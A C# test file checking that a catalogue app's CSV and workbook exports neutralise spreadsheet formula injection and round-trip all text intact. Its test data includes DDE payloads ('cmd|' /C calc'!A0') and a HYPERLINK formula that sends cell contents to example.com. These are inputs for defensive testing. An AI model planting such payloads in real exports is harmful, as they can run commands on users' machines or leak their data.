using System.IO.Compression;
using System.Text;
using System.Xml;
using Catalog.Api.Export;
using Catalog.Benchmarks;
using Catalog.Core.Export;
using Catalog.Core.Programs;
using Catalog.Core.Workbook;
using Catalog.Tests.Import;
using Catalog.Tests.Support;
using Sylvan.Data.Csv;
using static Catalog.Tests.Support.Programs;

namespace Catalog.Tests.Export;

/// <summary>
/// Issue #30, CSV injection: text that a spreadsheet would run as a formula is neutral in the CSV
/// export (an apostrophe in front, reversibly) and in the workbook (a text cell, never a formula),
/// and every text survives the round trip.
/// </summary>
public sealed class FormulaInjectionTests
{
    /// <summary>Formula starts (OWASP's list, full-width forms), apostrophes before them, and texts near them.</summary>
    public static readonly string[] Texts =
    [
        "=HYPERLINK(\"http://example.com/?\"&A1,\"詳細\")", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1", "\0=1",
        "＝１＋２", "－５", "＠x", "'=already quoted", "''@twice", "'", "''", "'plain", "-", "=", "-5", "a=b", " =1", "", "補助率 1/2",
    ];

    [Fact]
    public void EveryTextThatCouldStartAFormulaIsQuotedAndEveryTextComesBack()
    {
        foreach (var text in Texts)
        {
            var cell = FormulaGuard.Neutralise(text);
            Assert.True(cell.Length == 0 || !FormulaGuard.FormulaStarts.Contains(cell[0]), $"'{text}' is written as '{cell}'");
            Assert.Equal(text, FormulaGuard.Restore(cell));
        }
        Assert.Equal("'=1", FormulaGuard.Neutralise("=1"));
        Assert.Equal("''=1", FormulaGuard.Neutralise("'=1"));
        Assert.Equal("'plain", FormulaGuard.Neutralise("'plain"));
        Assert.Equal("a=b", FormulaGuard.Neutralise("a=b"));
    }

    [Fact]
    public async Task TheCsvExportQuotesFormulaTextAndReadsBackExactly()
    {
        await using var server = await CatalogTestServer.StartAsync();
        var programs = Texts.Where(t => t.Length > 0).Select((t, i) => Make($"formula-{i:D2}", t, summary: t, aliases: [t])).ToArray();
        server.Add(programs);

        var bytes = await server.Client.GetByteArrayAsync("/api/export?format=csv&sort=name");
        using var csv = CsvDataReader.Create(new StringReader(Encoding.UTF8.GetString(bytes).TrimStart('\uFEFF')));
        var read = 0;
        while (csv.Read())
        {
            var program = programs.Single(p => p.Id == csv.GetString(csv.GetOrdinal("ID")));
            foreach (var (header, text) in new[] { ("制度名", program.Name), ("概要", program.Summary!), ("別名", program.Aliases[0]) })
            {
                var cell = csv.GetString(csv.GetOrdinal(header));
                Assert.False(FormulaGuard.FormulaStarts.Contains(cell[0]), $"{header} of {program.Id} starts a formula: {cell}");
                Assert.Equal(text, FormulaGuard.Restore(cell));
            }
            read++;
        }
        Assert.Equal(programs.Length, read);
    }

    [Fact]
    public void FormulaTextInTheWorkbookIsATextCellNeverAFormulaAndSurvivesTheRoundTrip()
    {
        using var first = new TestStore();
        var records = SyntheticCatalogue.Generate(3).ToList();
        var texts = Texts.Where(t => t.Length > 0 && !t.Contains('\r') && !t.Contains('\0')).ToList(); // XML keeps neither
        records[0].Name = texts[0];
        records[0].Summary = texts[1];
        records[0].Aliases = texts.Skip(2).ToList();
        records[1].Notes = texts[3];
        records[1].Purpose = texts[4];
        records[1].Contacts = [new Contact { Division = texts[5], Phone = "+81-3-1234-5678", Email = "=cmd|' /C calc'!A0" }];
        var ndjson = first.Folder.Combine("formulas.ndjson");
        File.WriteAllText(ndjson, string.Concat(records.Select(r => ProgramJson.Serialize(r) + "\n")));
        var imported = first.Importer.Import(ndjson);
        Assert.True(imported.Succeeded, string.Join("\n", imported.Errors));
        var json = first.Export();
        var workbook = first.Folder.Combine("formulas.xlsx");
        WorkbookExporter.WriteFile(first.Store.ReadAll(), workbook);

        // Every cell that starts like a formula is an inline string in a text-formatted (@) style.
        var formulaCells = 0;
        using (var zip = ZipFile.OpenRead(workbook))
        {
            var formats = NumberFormats(zip);
            foreach (var entry in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
            foreach (var (reference, type, style, text, hasFormula) in Cells(entry))
            {
                Assert.False(hasFormula, $"{entry.FullName} {reference} holds a formula");
                if (text.Length == 0 || !FormulaGuard.FormulaStarts.Contains(text[0])) continue;
                Assert.Equal("inlineStr", type);
                Assert.Equal(49u, formats[style]); // "@": Excel keeps what is typed over it as text too
                formulaCells++;
            }
        }
        Assert.True(formulaCells >= 8, $"only {formulaCells} formula-like cells were written");

        using var second = new TestStore();
        var result = second.Importer.Import(workbook);
        Assert.True(result.Succeeded, string.Join("\n", result.Errors));
        Assert.Equal(json, second.Export());
    }

    [Fact]
    public void ACsvSheetWrittenWithTheGuardImportsItsTextsAsTheyWere()
    {
        using var t = new TestStore();
        var ndjson = t.Folder.Combine("synthetic.ndjson");
        SyntheticCatalogue.WriteNdjson(ndjson, 3);
        Assert.True(t.Importer.Import(ndjson).Succeeded);
        var program = t.Store.ReadAll()[0];
        var notes = new[] { "=1+2", "'=x", "-5", "@SUM(A1)", "＋１", "'plain" };
        var file = t.Folder.Combine("上限額.csv");
        File.WriteAllText(file, CsvExport.Line(["制度ID", "制度名【参照】", "対象", "上限額", "単位", "金額（円）【自動】", "備考"])
            + string.Concat(notes.Select(n => CsvExport.Line([program.Id, program.Name, "", "1億円", "年度あたり", "", n]))), new UTF8Encoding(true));

        var result = t.Importer.Import(file);

        Assert.True(result.Succeeded, string.Join("\n", result.Errors));
        Assert.Equal(notes, t.Store.Find(program.Id)!.Caps.Select(c => c.Note));
    }

    /// <summary>cellXfs index → number format id, from the workbook's styles.</summary>
    private static List<uint> NumberFormats(ZipArchive zip)
    {
        var formats = new List<uint>();
        using var reader = XmlReader.Create(zip.GetEntry("xl/styles.xml")!.Open());
        var inCellXfs = false;
        while (reader.Read())
        {
            if (reader.NodeType == XmlNodeType.Element && reader.LocalName == "cellXfs") inCellXfs = true;
            else if (reader.NodeType == XmlNodeType.EndElement && reader.LocalName == "cellXfs") inCellXfs = false;
            else if (inCellXfs && reader.NodeType == XmlNodeType.Element && reader.LocalName == "xf")
                formats.Add(uint.Parse(reader.GetAttribute("numFmtId") ?? "0", System.Globalization.CultureInfo.InvariantCulture));
        }
        return formats;
    }

    private static IEnumerable<(string Reference, string? Type, int Style, string Text, bool HasFormula)> Cells(ZipArchiveEntry sheet)
    {
        using var reader = XmlReader.Create(sheet.Open());
        reader.MoveToContent();
        while (!reader.EOF)
        {
            if (reader.NodeType != XmlNodeType.Element || reader.LocalName != "c") { reader.Read(); continue; }
            var (reference, type, style) = (reader.GetAttribute("r")!, reader.GetAttribute("t"), int.Parse(reader.GetAttribute("s") ?? "0", System.Globalization.CultureInfo.InvariantCulture));
            var cell = (System.Xml.Linq.XElement)System.Xml.Linq.XNode.ReadFrom(reader);
            var text = string.Concat(cell.Descendants().Where(d => d.Name.LocalName is "t" or "v").Select(d => d.Value));
            yield return (reference, type, style, text, cell.Descendants().Any(d => d.Name.LocalName == "f"));
        }
    }
}
